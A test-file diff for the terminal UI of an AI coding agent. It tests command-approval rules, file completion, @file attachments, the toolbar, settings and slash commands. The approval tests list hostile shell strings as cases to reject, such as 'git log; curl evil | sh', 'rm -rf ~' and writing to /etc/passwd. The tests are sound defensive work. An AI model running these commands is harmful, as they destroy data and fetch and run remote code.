@@ -1,0 +1,529 @@
+"""The pieces of the terminal UI without a terminal: approvals and session rules, completion and
+`@file` attachments, the toolbar, settings, slash commands on a real session, and the turn view."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+import re
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from prompt_toolkit.completion import CompleteEvent
+from prompt_toolkit.document import Document
+from rich.console import Console
+
+from kimicode.agent.core import Approval, ApprovalRequest
+from kimicode.agent.events import (
+    ContentDelta,
+    ContextUpdated,
+    MessageCommitted,
+    Notice,
+    PermissionDenied,
+    ReasoningDelta,
+    Retrying,
+    StepStarted,
+    ToolCallFinished,
+    ToolCallStarted,
+    TurnFinished,
+    UsageUpdated,
+)
+from kimicode.testing import FakeServer, Reply
+from kimicode.ui.approvals import (
+    Approver,
+    Option,
+    SessionRules,
+    edit_preview,
+    has_shell_operators,
+    options_for,
+    prefix_matches,
+    prefix_problem,
+    suggest_prefix,
+)
+from kimicode.ui.completion import CommandInfo, FileIndex, PromptCompleter, expand_mentions, list_files
+from kimicode.ui.format import describe_call, tokens
+from kimicode.ui.settings import UISettings
+from kimicode.ui.toolbar import GitBranch, Stats, toolbar_fragments
+from kimicode.ui.view import TurnView
+
+
+def test_headless_imports_no_ui() -> None:
+    code = (
+        "import sys, kimicode, kimicode.cli.app, kimicode.cli.headless, kimicode.agent.core\n"
+        "loaded = [m for m in sys.modules if m.startswith(('kimicode.ui', 'prompt_toolkit'))]\n"
+        "assert not loaded, loaded\n"
+    )
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+
+
+# -- approvals ------------------------------------------------------------------------------------
+
+
+def bash_request(command: str) -> ApprovalRequest:
+    return ApprovalRequest("call-1", "bash", "execute", {"command": command}, "bash runs commands")
+
+
+def edit_request(ws: Path, args: dict[str, Any], tool: str = "edit_file") -> ApprovalRequest:
+    return ApprovalRequest("call-2", tool, "edit", args, "changes files", str((ws / args["path"]).resolve()))
+
+
+def test_prefix_rules_never_match_chained_or_longer_words() -> None:
+    assert prefix_matches("git status", "git status")
+    assert prefix_matches("git status", "git status --short")
+    assert not prefix_matches("git status", "git statusx")
+    for evil in (
+        "git status; rm -rf ~",
+        "git status && rm x",
+        "git status | sh",
+        "git status $(rm x)",
+        "git status `rm x`",
+        "git status > /etc/passwd",
+        "git status\nrm x",
+    ):
+        assert has_shell_operators(evil)
+        assert not prefix_matches("git status", evil)
+    assert prefix_problem("") is not None and prefix_problem("  ") is not None
+    assert prefix_problem("ls; rm") is not None
+    assert prefix_problem("npm", "git status") == "the command does not start with 'npm'"
+    assert prefix_problem("git", "git status") is None
+
+
+def test_suggested_prefixes() -> None:
+    assert suggest_prefix("git status --short") == "git status"
+    assert suggest_prefix("pytest -q tests") == "pytest"
+    assert suggest_prefix("python -m pytest -x") == "python -m pytest"
+    assert suggest_prefix("npm --version") == "npm"
+
+
+def test_session_rules_are_narrow(tmp_path: Path) -> None:
+    rules = SessionRules(commands={"make test"}, prefixes={"git log"}, files={str(tmp_path / "a.py")})
+    assert rules.match(bash_request("make test"))
+    assert not rules.match(bash_request("make test2"))
+    assert not rules.match(bash_request("make"))
+    assert rules.match(bash_request("git log -3"))
+    assert not rules.match(bash_request("git log; curl evil | sh"))
+    assert rules.match(edit_request(tmp_path, {"path": "a.py"}))
+    assert not rules.match(edit_request(tmp_path, {"path": "b.py"}))
+    # no rule allows everything
+    assert not SessionRules().match(bash_request("ls"))
+
+
+def run_approver(
+    ws: Path,
+    request: ApprovalRequest,
+    answers: list[str | None],
+    texts: list[str | None],
+    rules: SessionRules | None = None,
+) -> tuple[Approval, str, list[str]]:
+    out = io.StringIO()
+    console = Console(file=out, width=100, color_system=None)
+    asked: list[str] = []
+    interrupted: list[bool] = []
+
+    async def choose(question: str, options: list[Option]) -> str | None:
+        asked.append(question + " | " + ",".join(o.value for o in options))
+        return answers.pop(0)
+
+    async def ask(message: str, default: str) -> str | None:
+        asked.append(f"{message.strip()} [{default}]")
+        return texts.pop(0)
+
+    approver = Approver(
+        console, ws, rules or SessionRules(), choose_fn=choose, ask_fn=ask, interrupt=lambda: interrupted.append(True)
+    )
+
+    async def go() -> Approval:
+        result = await approver(request)
+        await asyncio.sleep(0)  # let a scheduled interrupt run
+        return result
+
+    result = asyncio.run(go())
+    if interrupted:
+        asked.append("INTERRUPTED")
+    return result, out.getvalue(), asked
+
+
+def test_approver_answers(tmp_path: Path) -> None:
+    ok, shown, _ = run_approver(tmp_path, bash_request("pytest -q"), ["once"], [])
+    assert ok == Approval(True)
+    assert "pytest -q" in shown and "allowed once" in shown
+
+    rules = SessionRules()
+    ok, _, _ = run_approver(tmp_path, bash_request("pytest -q"), ["command"], [], rules)
+    assert ok.approved and rules.commands == {"pytest -q"}
+
+    # a prefix that does not fit is refused and asked again, with what was typed as the new default
+    rules = SessionRules()
+    ok, shown, asked = run_approver(tmp_path, bash_request("git diff HEAD"), ["prefix"], ["npm", "git diff"], rules)
+    assert ok.approved and rules.prefixes == {"git diff"}
+    assert "does not start with 'npm'" in shown
+    assert asked[1].endswith("[git diff]") and asked[2].endswith("[npm]")
+
+    # cancelling the prefix goes back to the menu
+    ok, _, asked = run_approver(tmp_path, bash_request("ls -la"), ["prefix", "no"], [None, "not now"])
+    assert ok == Approval(False, "not now")
+    assert len([a for a in asked if "Run this command?" in a]) == 2
+
+    ok, shown, _ = run_approver(tmp_path, bash_request("rm -rf build"), [None], [])
+    assert ok == Approval(False, "")  # Esc: no, without asking for a reason
+    assert "not allowed" in shown
+
+    ok, _, asked = run_approver(tmp_path, bash_request("sleep 100"), ["interrupt"], [])
+    assert not ok.approved and asked[-1] == "INTERRUPTED"
+
+    # already allowed: no question at all
+    ok, shown, asked = run_approver(tmp_path, bash_request("make"), [], [], SessionRules(commands={"make"}))
+    assert ok.approved and asked == [] and shown == ""
+
+
+def test_options_depend_on_the_request(tmp_path: Path) -> None:
+    assert [o.value for o in options_for(bash_request("ls"))] == ["once", "command", "prefix", "no"]
+    assert [o.value for o in options_for(bash_request("ls | wc"))] == ["once", "command", "no"]
+    assert [o.value for o in options_for(edit_request(tmp_path, {"path": "x"}))] == ["once", "file", "no"]
+
+
+def test_edit_previews_come_from_the_arguments_and_the_file(tmp_path: Path) -> None:
+    (tmp_path / "a.py").write_text("one\ntwo\nthree\n")
+    diff, note = edit_preview(
+        edit_request(tmp_path, {"path": "a.py", "old_string": "two", "new_string": "2"}), tmp_path
+    )
+    assert "-two\n+2\n" in diff and " one\n" in diff and note == ""
+    diff, note = edit_preview(edit_request(tmp_path, {"path": "new.py", "content": "x = 1\n"}, "write_file"), tmp_path)
+    assert "+x = 1" in diff and note == "new file"
+    diff, note = edit_preview(
+        edit_request(tmp_path, {"path": "a.py", "old_string": "zzz", "new_string": "y"}), tmp_path
+    )
+    assert "-zzz" in diff and "not found" in note
+    (tmp_path / "b.py").write_text("x\nx\n")
+    _, note = edit_preview(edit_request(tmp_path, {"path": "b.py", "old_string": "x", "new_string": "y"}), tmp_path)
+    assert "occurs 2 times" in note
+
+
+# -- completion and attachments -------------------------------------------------------------------
+
+
+def make_tree(root: Path) -> None:
+    (root / "src" / "pkg").mkdir(parents=True)
+    (root / "src" / "pkg" / "app.py").write_text("print('app')\n")
+    (root / "src" / "main.py").write_text("main\n")
+    (root / "README.md").write_text("# readme\n")
+    (root / ".gitignore").write_text("build/\n*.log\n")
+    (root / "build").mkdir()
+    (root / "build" / "out.py").write_text("generated\n")
+    (root / "debug.log").write_text("log\n")
+
+
+def test_list_files_respects_gitignore(tmp_path: Path) -> None:
+    make_tree(tmp_path)
+    files = list_files(tmp_path)
+    assert files == ["README.md", "src/main.py", "src/pkg/app.py"]
+
+
+def test_list_files_without_ripgrep(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    make_tree(tmp_path)
+    monkeypatch.setenv("KIMICODE_NO_RIPGREP", "1")
+    assert list_files(tmp_path) == ["README.md", "src/main.py", "src/pkg/app.py"]
+
+
+def test_index_search_ranks_names_first(tmp_path: Path) -> None:
+    make_tree(tmp_path)
+    index = FileIndex(tmp_path)
+    index.refresh()
+    assert index.wait(10)
+    assert index.search("app")[0] == "src/pkg/app.py"
+    assert index.search("main") == ["src/main.py"]
+    assert "src/" in index.search("src")
+    assert index.search("spa") == ["src/pkg/app.py"]  # subsequence fallback
+    assert index.search("") == ["README.md", "src/"]
+
+
+def test_index_is_fast_on_100k_files(tmp_path: Path) -> None:
+    paths = [f"dir{i % 300}/sub{i % 17}/file_{i}.py" for i in range(100_000)]
+    index = FileIndex(tmp_path, lister=lambda _root: paths)
+    index.refresh()
+    assert index.wait(30)
+    start = time.perf_counter()
+    found = index.search("file_4242")
+    elapsed = time.perf_counter() - start
+    assert found[0] == "dir42/sub9/file_4242.py"
+    assert elapsed < 1.0, elapsed
+
+
+def completions(completer: PromptCompleter, text: str) -> list[str]:
+    return [c.text for c in completer.get_completions(Document(text), CompleteEvent(completion_requested=True))]
+
+
+def test_completer_for_commands_arguments_and_paths(tmp_path: Path) -> None:
+    make_tree(tmp_path)
+    (tmp_path / "my notes.txt").write_text("n\n")
+    index = FileIndex(tmp_path)
+    index.refresh()
+    assert index.wait(10)
+    cmds = {
+        "help": CommandInfo("help", "show help"),
+        "reasoning": CommandInfo("reasoning", "reasoning", lambda: ("show", "hide")),
+    }
+    completer = PromptCompleter(lambda: cmds, index)
+    assert completions(completer, "/he") == ["/help"]
+    assert completions(completer, "/reasoning h") == ["hide"]
+    assert completions(completer, "look at @pkg/ap") == ["@src/pkg/app.py"]
+    assert completions(completer, "@notes") == ['@"my notes.txt"']
+    assert completions(completer, "email me@host") == []
+    assert completions(completer, "plain words") == []
+
+
+def test_mentions_attach_files(tmp_path: Path) -> None:
+    make_tree(tmp_path)
+    (tmp_path / "blob.bin").write_bytes(b"\x00\x01binary")
+    (tmp_path / "big.txt").write_text("x" * 500)
+    text, attached = expand_mentions("see @src/main.py, and @nothing/here and a@b.c", tmp_path, 1000)
+    assert [a.path for a in attached] == ["src/main.py"]
+    assert text.startswith("see @src/main.py, and @nothing/here and a@b.c\n\n")
+    assert '<file path="src/main.py">\nmain\n</file>' in text
+    text, attached = expand_mentions("@blob.bin @big.txt", tmp_path, 100)
+    assert "[binary file: not attached]" in text
+    assert "more characters not attached" in text and attached[1].note.startswith("cut to")
+    text, attached = expand_mentions('@"src/pkg"', tmp_path, 1000)
+    assert '<directory path="src/pkg">\napp.py\n</directory>' in text
+    assert expand_mentions("no mentions", tmp_path, 10) == ("no mentions", [])
+
+
+# -- toolbar and settings -------------------------------------------------------------------------
+
+
+def test_git_branch_follows_head(tmp_path: Path) -> None:
+    git = tmp_path / ".git"
+    git.mkdir()
+    (git / "HEAD").write_text("ref: refs/heads/main\n")
+    sub = tmp_path / "a" / "b"
+    sub.mkdir(parents=True)
+    branch = GitBranch(sub)
+    assert branch.get() == "main"
+    (git / "HEAD").write_text("ref: refs/heads/feature/long-name\n")
+    assert branch.get() == "feature/long-name"
+    (git / "HEAD").write_text("0123456789abcdef0123456789abcdef01234567\n")
+    assert branch.get() == "01234567"
+    # a linked worktree: `.git` is a file pointing at the real git directory
+    wt = tmp_path / "worktree"
+    wt.mkdir()
+    real = tmp_path / "gitdirs" / "wt"
+    real.mkdir(parents=True)
+    (real / "HEAD").write_text("ref: refs/heads/topic\n")
+    (wt / ".git").write_text(f"gitdir: {real}\n")
+    assert GitBranch(wt).get() == "topic"
+
+
+def test_toolbar_fragments() -> None:
+    stats = Stats()
+    text = "".join(
+        t
+        for _, t in toolbar_fragments(
+            model="kimi-k3",
+            effort="high",
+            stats=stats,
+            window=1_048_576,
+            estimate=3000,
+            mode="default",
+            workspace=Path("/w"),
+            branch="dev",
+        )
+    )
+    assert "ctx ~3.0k/1.0M (0%)" in text and "⏵ default" in text and "⎇ dev" in text and "cached" not in text
+    stats.update(UsageUpdated(200_000, 10, 150_000, 200_000, 10, 150_000))
+    stats.update(ContextUpdated(900_000, 1_048_576, 150_000))
+    frags = toolbar_fragments(
+        model="kimi-k3",
+        effort=None,
+        stats=stats,
+        window=1_048_576,
+        estimate=3000,
+        mode="yolo",
+        workspace=Path("/w"),
+        branch=None,
+    )
+    text = "".join(t for _, t in frags)
+    assert "ctx 900k/1.0M (86%)" in text and "cached 75%" in text and "⏵ yolo" in text
+    assert ("class:toolbar.warn", "ctx 900k/1.0M (86%)") in frags
+
+
+def test_settings_roundtrip_and_bad_files(tmp_path: Path) -> None:
+    assert UISettings.load(tmp_path).show_reasoning is True
+    assert UISettings(show_reasoning=False).save(tmp_path) is None
+    assert UISettings.load(tmp_path).show_reasoning is False
+    (tmp_path / "ui.json").write_text("{not json")
+    assert UISettings.load(tmp_path).show_reasoning is True
+    (tmp_path / "ui.json").write_text('{"show_reasoning": "no"}')
+    assert UISettings.load(tmp_path).show_reasoning is True
+    blocker = tmp_path / "file"
+    blocker.write_text("")
+    assert UISettings().save(blocker / "sub") is not None  # an error message, not an exception
+
+
+def test_formatting_helpers() -> None:
+    assert tokens(999) == "999" and tokens(12_345) == "12.3k" and tokens(262_144) == "262k"
+    assert describe_call("read_file", {"path": "src/app.py", "offset": 1, "limit": 200}) == "read_file src/app.py:1-200"
+    assert describe_call("bash", {"command": "pytest -q\nmore"}) == "bash: pytest -q …"
+    assert describe_call("write_file", {"path": "a", "content": "x\ny\n"}) == "write_file a (2 lines)"
+    assert describe_call("grep", {"pattern": "TODO", "path": "src"}) == "grep TODO in src"
+    assert describe_call("custom", {"k": 1}) == 'custom {"k": 1}'
+
+
+# -- the turn view ----------------------------------------------------------------------------------
+
+
+def plain_view(**kwargs: Any) -> tuple[TurnView, io.StringIO]:
+    out = io.StringIO()
+    console = Console(file=out, width=100, color_system=None, force_terminal=False)
+    kinds = {"bash": "execute", "write_file": "edit", "read_file": "read"}
+    return TurnView(console, plain=True, tool_kind=kinds.get, **kwargs), out
+
+
+def test_turn_view_renders_each_kind_of_event() -> None:
+    stats: list[Any] = []
+    view, out = plain_view(show_reasoning=False, on_stats=stats.append)
+    events = [
+        StepStarted(1),
+        ReasoningDelta("hidden thoughts"),
+        ContentDelta("I will **run** it."),
+        MessageCommitted({"role": "assistant", "content": "I will run it."}),
+        ToolCallStarted("c1", "bash", {"command": "pytest -q"}),
+        ToolCallFinished(
+            "c1", "bash", "line1\nline2\n3 passed\n[exit code: 0]", False, "bash: pytest -q (exit 0, 3 lines)"
+        ),
+        ToolCallStarted("c5", "bash", {"command": "make"}),
+        ToolCallFinished("c5", "bash", "cc failed\n[exit code: 2]", True, "bash: make (exit 2, 1 line)"),
+        ToolCallStarted("c2", "write_file", {"path": "a.py", "content": "x\n"}),
+        ToolCallFinished(
+            "c2",
+            "write_file",
+            "Created",
+            False,
+            "write a.py (created, 1 lines)",
+            {"diff": "--- /dev/null\n+++ b/a.py\n@@ -0,0 +1 @@\n+x\n"},
+        ),
+        PermissionDenied("c3", "bash", {"command": "rm -rf /"}, "bash runs commands"),
+        ToolCallFinished("c3", "bash", "Permission denied", True, "bash: error"),
+        ToolCallFinished("c4", "nosuch", "Unknown tool 'nosuch'. Available tools: bash.", True, "nosuch: error"),
+        Retrying(1, 5, 0.5, "HTTP 503: down"),
+        Notice("context compacted", "info"),
+        UsageUpdated(10, 2, 5, 10, 2, 5),
+        TurnFinished("error", "", 2, "HTTP 400: too long", "context_length"),
+    ]
+    for ev in events:
+        view.handle(ev)
+    text = out.getvalue()
+    assert "hidden thoughts" not in text and re.search(r"✻ thought for \d+s", text)
+    assert "I will **run** it." in text
+    assert "● bash: pytest -q\n  ⎿ exit 0, 3 lines\n    line1\n    line2\n    3 passed\n● bash: make" in text
+    assert "● bash: make\n  ⎿ ✗ exit 2, 1 line\n    cc failed\n" in text
+    assert "● write_file a.py (1 line)\n  ⎿ write a.py (created, 1 lines)\n    @@ -0,0 +1 @@\n    +x" in text
+    assert "● bash: rm -rf /\n  ⎿ not run: bash runs commands" in text
+    assert text.count("rm -rf /") == 1  # the refused call's error result is not shown again
+    assert "● nosuch\n  ⎿ ✗ Unknown tool 'nosuch'." in text
+    assert "↻ HTTP 503: down: retrying in 0.5s (attempt 1 of 5)" in text
+    assert "· context compacted" in text
+    assert "✗ HTTP 400: too long" in text and "/compact" in text
+    assert len(stats) == 1
+
+
+def test_turn_view_interruption_closes_running_calls() -> None:
+    view, out = plain_view(show_reasoning=True)
+    view.handle(ReasoningDelta("step one\nstep "))
+    view.handle(ReasoningDelta("two"))
+    view.handle(ToolCallStarted("c1", "bash", {"command": "sleep 30"}))
+    view.handle(TurnFinished("interrupted", "", 1, "interrupted by user"))
+    text = out.getvalue()
+    assert "✻ Thinking\nstep one\nstep two\n" in text
+    assert "● bash: sleep 30\n  ⎿ interrupted" in text
+    assert "Interrupted." in text
+
+
+# -- slash commands on a real session ---------------------------------------------------------------
+
+
+@pytest.fixture
+def session_factory(
+    server: FakeServer, workspace: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> Callable[[], Any]:
+    from kimicode.ui.app import AgentOptions, Session
+
+    monkeypatch.setenv("KIMI_API_KEY", "sk-test")
+    monkeypatch.setenv("KIMI_BASE_URL", server.base_url)
+
+    def make() -> Any:
+        console = Console(file=io.StringIO(), width=120, color_system=None, force_terminal=False)
+        return Session(AgentOptions(workspace=workspace, retry_base_delay=0.01), console, plain=True)
+
+    return make
+
+
+def output(session: Any) -> str:
+    value: str = session.console.file.getvalue()
+    session.console.file.seek(0)
+    session.console.file.truncate()
+    return value
+
+
+def test_slash_commands(session_factory: Callable[[], Any], tmp_path: Path) -> None:
+    from kimicode.ui import commands
+
+    session = session_factory()
+
+    def run(line: str) -> str:
+        assert commands.looks_like_command(line)
+        asyncio.run(commands.dispatch(session, line))
+        return output(session)
+
+    assert not commands.looks_like_command("/usr/bin/env is broken")
+    assert "Did you mean /context?" in run("/contxt")
+    assert "/thinking low|high|max" in run("/help")
+    assert "kimi-k2-turbo" in run("/model kimi-k2-turbo") and session.agent.endpoint.model == "kimi-k2-turbo"
+    assert "takes low, high or max" in run("/thinking extreme")
+    run("/thinking max")
+    assert session.agent.thinking == "max"
+    run("/permissions accept-edits")
+    assert session.agent.permission_mode == "accept-edits"
+    assert "takes default, accept-edits, yolo" in run("/permissions everything")
+    session.rules.commands.add("make")
+    assert "command: make" in run("/permissions")
+    text = run("/context")
+    assert "system prompt" in text and "tool definitions" in text and "estimate" in text
+    assert "0 input tokens" in run("/cost")
+    old_id = session.agent.session_id
+    text = run("/clear")
+    assert session.agent.session_id != old_id and "forgotten" in text and not session.rules.commands
+    assert session.agent.permission_mode == "accept-edits" and session.agent.thinking == "max"
+    run("/reasoning hide")
+    assert json.loads((tmp_path / "home" / "ui.json").read_text()) == {"show_reasoning": False}
+    run("/exit")
+    assert session.exit_requested
+
+
+def test_init_and_a_turn_through_the_session(
+    session_factory: Callable[[], Any], server: FakeServer, workspace: Path
+) -> None:
+    from kimicode.ui import commands
+
+    (workspace / "notes.md").write_text("remember this\n")
+    server.add(Reply(content="AGENTS.md written."), Reply(content="Seen."))
+    session = session_factory()
+
+    async def go() -> None:
+        await commands.dispatch(session, "/init")
+        await session.run_turn("check @notes.md")
+        await session.agent.aclose()
+
+    asyncio.run(go())
+    text = output(session)
+    first = server.requests[0].body["messages"][-1]["content"]
+    assert "AGENTS.md" in first and "Write an `AGENTS.md`" in first
+    assert "AGENTS.md written." in text and "Seen." in text
+    assert "remember this" in server.requests[1].body["messages"][-1]["content"]
+    assert "+ attached notes.md (1 lines)" in text
